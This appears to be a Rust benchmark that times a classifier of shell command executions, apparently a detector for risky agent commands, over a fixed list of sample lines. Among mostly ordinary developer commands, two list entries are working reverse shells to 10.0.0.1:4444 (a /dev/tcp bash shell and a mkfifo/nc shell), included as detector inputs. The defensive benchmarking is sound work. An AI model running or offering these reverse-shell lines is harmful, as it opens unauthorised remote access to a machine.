// SPDX-License-Identifier: Apache-2.0
//! How long the classifier takes for one execution, on one core.
//!
//!     ORT_DYLIB_PATH=FILE cargo bench -p lictor-judge --bench classifier
//!
//! Prints percentiles over a mixture of commands, with and without the reasons; fails above the promised 0.5 ms.

use std::path::Path;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use lictor_judge::classifier::{Classifier, Execution, featurize};

const LINES: &[&str] = &[
    "ls -la",
    "git status --short && git diff --stat",
    "cd /srv/app && python3 -m pytest -q tests/test_store.py 2>&1 | tail -20",
    "find . -name '*.py' -not -path './.venv/*' | xargs grep -n 'def main' | head -20",
    "cat > app.py <<'EOF'\nimport os\nimport sys\n\n\ndef main():\n    print(os.environ.get('PORT', '8080'), sys.argv)\n\n\nmain()\nEOF",
    "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"name\"])' < package.json",
    "curl -s -X POST -H 'Content-Type: application/json' -d '{\"name\": \"bolt\"}' http://localhost:8000/items",
    "cargo build --workspace --release 2>&1 | grep -E '^(warning|error)' | sort | uniq -c",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
    "sed -i 's/debug=True/debug=False/' app.py; git commit -am 'Switch debugging off'",
    "for i in $(seq 1 10); do curl -sf http://localhost:3000/health && break; sleep 0.1; done; echo waited",
];
const PROMISE: Duration = Duration::from_micros(500);

fn main() -> ExitCode {
    let model = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../models/exec-classifier.onnx");
    let classifier = match Classifier::load(&model, None) {
        Ok(classifier) => classifier,
        Err(error) => {
            eprintln!("classifier: {error}");
            return ExitCode::FAILURE;
        }
    };
    let executions: Vec<Execution> = LINES.iter().map(|line| Execution::line(line)).collect();
    let measure = |what: &str, run: &dyn Fn(&Execution) -> bool| {
        let mut times = Vec::new();
        for round in 0..220 {
            for execution in &executions {
                let begin = Instant::now();
                let done = std::hint::black_box(run(std::hint::black_box(execution)));
                let took = begin.elapsed();
                assert!(done, "the classifier failed");
                // The first rounds fill caches and tables.
                if round >= 20 {
                    times.push(took);
                }
            }
        }
        times.sort_unstable();
        let at = |share: f64| times[((times.len() - 1) as f64 * share) as usize];
        println!("{what:<28} p50 {:>7.1?}  p99 {:>7.1?}  {} executions", at(0.5), at(0.99), times.len());
        at(0.5)
    };
    measure("features", &|execution| !featurize(execution).is_empty());
    let probability = measure("probability", &|execution| classifier.probability(execution).is_ok());
    measure("probability and reasons", &|execution| classifier.score(execution).is_ok());
    let longest = Execution::line(&"git status; ".repeat((128 << 10) / 12));
    let begin = Instant::now();
    let done = classifier.probability(&longest).is_ok();
    println!("{:<28} {:>11.1?}", "128 KiB of commands", begin.elapsed());
    if done && probability <= PROMISE { ExitCode::SUCCESS } else { ExitCode::FAILURE }
}
